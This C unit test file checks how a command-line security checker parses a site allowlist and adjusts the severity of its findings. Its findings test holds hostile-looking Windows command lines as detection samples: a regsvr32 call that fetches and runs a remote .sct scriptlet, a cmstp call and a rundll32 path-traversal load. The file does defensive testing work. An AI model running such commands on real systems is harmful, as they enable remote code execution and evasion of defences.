/* SPDX-License-Identifier: Apache-2.0 */
/* Site files: what is refused and where, what entries match, and what a finding says of them. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>

#include <cmocka.h>

#include <catspaw/catspaw.h>

#include "common/refusals.h"
#include "core/str.h"
#include "windows/path.h"
#include "windows/site.h"

#define HEAD "{\"schema\":\"catspaw.site/1\","

static enum paw_status read_text(const char *text, size_t n, struct paw_file_fault *fault)
{
    struct paw_site *site = NULL;
    const enum paw_status status = paw_site_read(text, n, &site, fault);
    paw_site_free(site);
    return status;
}

static void refusals(void **state)
{
    (void)state;
    static const struct test_refusal rows[] = {
        {"", "not JSON", "", 1, 1},
        {"[]", "not JSON", "", 1, 1},
        {"{}", "the key is missing", "schema", 1, 1},
        {"{\"schema\":\"catspaw.site/2\"}", "not a schema of this version, catspaw.site/1",
         "catspaw.site/2", 1, 11},
        {"{\"schema\":1}", "the value is no text", "schema", 1, 11},
        {"{\"schema\":\"catspaw.site/1\"} 1", "not JSON", "", 1, 29},
        {HEAD "\n\"domain\":[]}", "unknown key", "domain", 2, 1},
        {HEAD "\"domains\":[],\"domains\":[]}", "a key that is there twice", "domains", 1, 41},
        {HEAD "\"domains\":\"a.example\"}", "the value is no list of texts", "domains", 1, 38},
        {HEAD "\"domains\":[1]}", "the list holds something that is no text", "domains", 1, 39},
        {HEAD "\"domains\":[[]]}", "the list holds something that is no text", "domains", 1, 39},
        {HEAD "\"domains\":[\"a.example\",]}", "not JSON", "", 1, 51},
        {HEAD "\"domains\":[\"a.example\"", "not JSON", "", 1, 50},
        {HEAD "\"domains\":[\"\"]}", "an empty text", "", 1, 39},
        {HEAD "\"signers\":[\"a\\u0007\"]}", "a control character", "a\a", 1, 39},
        {HEAD "\"comment\":[]}", "the value is no text", "comment", 1, 38},
    };
    test_refusals(rows, PAW_COUNT_OF(rows), read_text);
}

/* Every prefix of a good file is refused, none crashes. */
static void cuts(void **state)
{
    (void)state;
    static const char text[] =
        "\xEF\xBB\xBF" HEAD "\"comment\":\"x\",\"domains\":[\"a.example\"],\"drives\":[\"D:\"],"
        "\"networks\":[\"2001:db8::/32\"],\"places\":[\"C:\\\\Deploy\"]}";
    for (size_t n = 0; n < sizeof(text); n++) {
        struct paw_file_fault fault = {0};
        assert_int_equal(read_text(text, n, &fault), n == sizeof(text) - 1 ? PAW_OK : PAW_E_FORMAT);
    }
}

static void entries(void **state)
{
    (void)state;
    static const struct {
        enum paw_site_kind kind;
        const char *text, *fault; /* fault: a word of it, NULL: it is taken */
    } rows[] = {
        {PAW_SITE_DOMAINS, "corp.example", NULL},
        {PAW_SITE_DOMAINS, "*.corp.example", NULL},
        {PAW_SITE_DOMAINS, "com", "two labels"},
        {PAW_SITE_DOMAINS, "https://corp.example", "no domain"},
        {PAW_SITE_DOMAINS, "corp..example", "two labels"},
        {PAW_SITE_DOMAINS, "corp.example.", "two labels"},
        {PAW_SITE_NETWORKS, "203.0.113.0/24", NULL},
        {PAW_SITE_NETWORKS, "203.0.113.7", NULL},
        {PAW_SITE_NETWORKS, "2001:db8::/32", NULL},
        {PAW_SITE_NETWORKS, "203.0.113.1/24", "bits of the address"},
        {PAW_SITE_NETWORKS, "203.0.113.0/33", "more bits"},
        {PAW_SITE_NETWORKS, "0.0.0.0/0", "too few"},
        {PAW_SITE_NETWORKS, "203.0.113.0/", "no number"},
        {PAW_SITE_NETWORKS, "203.0.113.0/-1", "no number"},
        {PAW_SITE_NETWORKS, "203.0.113/24", "no network"},
        {PAW_SITE_NETWORKS, "corp.example/24", "no network"},
        {PAW_SITE_PLACES, "\\\\fs01\\deploy", NULL},
        {PAW_SITE_PLACES, "\\\\fs01\\deploy\\", NULL},
        {PAW_SITE_PLACES, "C:\\Deploy", NULL},
        {PAW_SITE_PLACES, "https://sw.corp.example/pkg", NULL},
        {PAW_SITE_PLACES, "\\\\fs01", "host alone"},
        {PAW_SITE_PLACES, "C:\\", "no place"},
        {PAW_SITE_PLACES, "Deploy", "no place"},
        {PAW_SITE_PLACES, "C:\\Users", "everybody"},
        {PAW_SITE_PLACES, "C:\\Windows", "everybody"},
        {PAW_SITE_PLACES, "C:\\Deploy\\..\\x", "goes up"},
        {PAW_SITE_PLACES, "%TEMP%\\x", "variables"},
        {PAW_SITE_PARENTS, "agent.exe", NULL},
        {PAW_SITE_PARENTS, "C:\\Tools\\agent.exe", NULL},
        {PAW_SITE_PARENTS, "powershell.exe", "everybody"},
        {PAW_SITE_PARENTS, "rundll32.exe", "everybody"},
        {PAW_SITE_PARENTS, "agent", "no program"},
        {PAW_SITE_DRIVES, "D", NULL},
        {PAW_SITE_DRIVES, "d:\\", NULL},
        {PAW_SITE_DRIVES, "D:\\x", "no drive"},
        {PAW_SITE_DRIVES, "1:", "no drive"},
        {PAW_SITE_SYSTEM_ROOTS, "E:\\Windows", NULL},
        {PAW_SITE_SYSTEM_ROOTS, "E:\\a\\Windows", "no folder"},
        {PAW_SITE_SYSTEM_ROOTS, "Windows", "no folder"},
        {PAW_SITE_SIGNERS, "Contoso Ltd", NULL},
    };
    struct paw_site site = {0};
    paw_arena_init(&site.arena, SIZE_MAX);
    for (size_t i = 0; i < PAW_COUNT_OF(rows); i++) {
        const char *fault = NULL;
        const enum paw_status status =
            paw_site_add(&site, rows[i].kind, paw_str_of(rows[i].text), &fault);
        if (status != (rows[i].fault == NULL ? PAW_OK : PAW_E_FORMAT) ||
            (rows[i].fault != NULL && strstr(fault, rows[i].fault) == NULL))
            fail_msg("%s: status %d, '%s'", rows[i].text, status, fault == NULL ? "" : fault);
    }
    paw_arena_finish(&site.arena);
}

static struct paw_site *example(void)
{
    static const char text[] =
        HEAD "\"domains\":[\"corp.example\"],\"networks\":[\"93.184.0.0/16\",\"2606:2800::/32\"],"
             "\"places\":[\"\\\\\\\\fs01\\\\deploy\",\"C:\\\\Deploy\","
             "\"https://sw.corp.example/pkg/\"],"
             "\"parents\":[\"agent.exe\",\"C:\\\\Tools\\\\roll.exe\"],\"drives\":[\"D:\"],"
             "\"system_roots\":[\"E:\\\\Windows\"],\"signers\":[\"Contoso Ltd\"]}";
    struct paw_site *site = NULL;
    struct paw_file_fault fault = {0};
    assert_int_equal(paw_site_read(text, strlen(text), &site, &fault), PAW_OK);
    return site;
}

static void classes(void **state)
{
    (void)state;
    static const struct {
        const char *path;
        uint64_t class; /* some bit of these; 0: unchanged */
    } rows[] = {
        {"\\\\fs01\\deploy\\a.msi", PAW_SITE},
        {"\\\\FS01\\Deploy", PAW_SITE},
        {"\\\\fs01\\deploy2\\a.msi", 0},
        {"\\\\fs01\\other\\a.msi", 0},
        {"c:\\deploy\\x\\a.dll", PAW_SITE},
        {"C:\\Deploy\\..\\Users\\Public\\a.dll", 0},
        {"C:\\Deploy\\a.txt:b.dll", 0},
        {"C:\\Deployed\\a.dll", 0},
        {"https://SW.corp.example/pkg/a.msi", PAW_SITE},
        {"https://sw.corp.example/pkg/../a.msi", PAW_LOCAL},
        {"https://web.corp.example/a.msi", PAW_LOCAL},
        {"https://corp.example.net/a.msi", 0},
        {"https://xcorp.example/a.msi", 0},
        {"https://93.184.2.3/a", PAW_LOCAL},
        {"https://0x5db80203/a", PAW_LOCAL},
        {"https://93.185.2.3/a", 0},
        {"D:\\Program Files\\App\\a.dll", PAW_PF},
        {"D:\\Users\\Public\\a.dll", PAW_PUBLIC_DIR},
        {"F:\\Program Files\\App\\a.dll", 0},
        {"E:\\Windows\\System32\\a.dll", PAW_SYS},
        {"E:\\Windows\\Temp\\a.dll", PAW_SYSW},
        {"E:\\Users\\a.dll", 0},
        {"C:\\Users\\Public\\a.dll", 0},
    };
    const struct paw_machine machine = {0};
    const struct paw_path_context context = {.machine = &machine, .is_code = true};
    struct paw_site *site = example();
    struct paw_arena arena;
    paw_arena_init(&arena, SIZE_MAX);
    for (size_t i = 0; i < PAW_COUNT_OF(rows); i++) {
        const struct paw_site_entry *by = NULL;
        struct paw_path path;
        paw_path_normalise(paw_str_of(rows[i].path), &context, &arena, &path);
        const uint64_t got = paw_site_class(site, &machine, &path, &by);
        const bool fits = rows[i].class == 0 ? got == path.class && by == NULL
                                             : (got & rows[i].class) != 0 && by != NULL;
        if (!fits)
            fail_msg("%s: %#llx", rows[i].path, (unsigned long long)got);
    }
    paw_arena_finish(&arena);
    paw_site_free(site);
}

static void programs(void **state)
{
    (void)state;
    struct paw_site *site = example();
    assert_non_null(paw_site_parent(site, PAW_LIT("C:\\x\\Agent.exe"), PAW_LIT("agent.exe")));
    assert_non_null(paw_site_parent(site, PAW_LIT("c:\\tools\\roll.exe"), PAW_LIT("roll.exe")));
    assert_null(paw_site_parent(site, PAW_LIT("c:\\temp\\roll.exe"), PAW_LIT("roll.exe")));
    assert_non_null(paw_site_signer(site, PAW_LIT("CONTOSO Ltd")));
    assert_null(paw_site_signer(site, PAW_LIT("Contoso")));
    assert_non_null(paw_site_host(site, PAW_LIT("[2606:2800::7]")));
    assert_non_null(paw_site_host(site, PAW_LIT("db.corp.example.")));
    assert_null(paw_site_host(site, PAW_LIT("2606:2801::7")));
    paw_site_free(site);
}

/* Findings ----------------------------------------------------------------------------------------
 */

struct seen {
    enum paw_severity severity;
    char id[64], adjusted[128];
};

static enum paw_status note(void *self, const struct paw_answer *a)
{
    struct seen *s = self;
    assert_null(a->fault);
    *s = (struct seen){0};
    if (a->finding == NULL)
        return PAW_OK;
    const struct paw_held *held = &a->finding->held[0];
    const size_t n = held->adjusted == NULL ? 0 : strlen(held->adjusted);
    s->severity = a->finding->severity;
    memcpy(s->id, held->id, strlen(held->id) < 63 ? strlen(held->id) : 63);
    if (n != 0)
        memcpy(s->adjusted, held->adjusted, n < 127 ? n : 127);
    return PAW_OK;
}

static void judge(const struct paw_site *site, const char *line, const char *parent,
                  struct seen *ret)
{
    const struct paw_checker_options o = {
        .around.parent_image = paw_str_of(parent), .site = site, .done = note, .self = ret};
    struct paw_checker *checker = NULL;
    assert_int_equal(paw_checker_new(&o, &checker), PAW_OK);
    assert_int_equal(paw_checker_take(checker, (paw_bytes){(const uint8_t *)line, strlen(line)}),
                     PAW_OK);
    assert_int_equal(paw_checker_flush(checker), PAW_OK);
    paw_checker_free(checker);
}

static void findings(void **state)
{
    (void)state;
    static const struct {
        const char *line, *parent;
        const char *says; /* NULL: nothing changes */
    } rows[] = {
        {"msiexec /qn /i \\\\fs01\\deploy\\a.msi", NULL, NULL}, /* it is low already */
        {"regsvr32 /s C:\\Deploy\\a.dll", NULL, "site: a place"},
        {"msiexec /qn /i https://sw.corp.example/pkg/a.msi", NULL, "site: a place"},
        {"regsvr32 /s \"D:\\Program Files\\App\\a.dll\"", NULL, "site: a fixed drive"},
        {"cmstp /s C:\\Users\\Public\\a.inf", "C:\\x\\agent.exe", "site: started by"},
        {"cmstp /s C:\\Users\\Public\\a.inf", "C:\\x\\cmd.exe", NULL},
        {"msiexec /qn /i \\\\fs01\\other\\a.msi", NULL, NULL},
        {"rundll32 C:\\Deploy\\..\\Users\\Public\\a.dll,Run", NULL, NULL},
        {"regsvr32 /s /n /u /i:https://files.example.net/a.sct scrobj.dll", NULL, NULL},
        {"notepad.exe C:\\Deploy\\a.txt", NULL, NULL},
    };
    struct paw_site *site = example();
    for (size_t i = 0; i < PAW_COUNT_OF(rows); i++) {
        struct seen without, with;
        judge(NULL, rows[i].line, rows[i].parent, &without);
        judge(site, rows[i].line, rows[i].parent, &with);
        const bool same = without.severity == with.severity && strcmp(without.id, with.id) == 0 &&
                          strcmp(without.adjusted, with.adjusted) == 0;
        const bool lowered = with.severity < without.severity && with.severity >= PAW_LOW &&
                             rows[i].says != NULL && strstr(with.adjusted, rows[i].says) != NULL;
        if (rows[i].says == NULL ? !same : !lowered)
            fail_msg("%s: %d to %d, %s, '%s'", rows[i].line, without.severity, with.severity,
                     with.id, with.adjusted);
    }
    paw_site_free(site);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(refusals), cmocka_unit_test(cuts),     cmocka_unit_test(entries),
        cmocka_unit_test(classes),  cmocka_unit_test(programs), cmocka_unit_test(findings),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
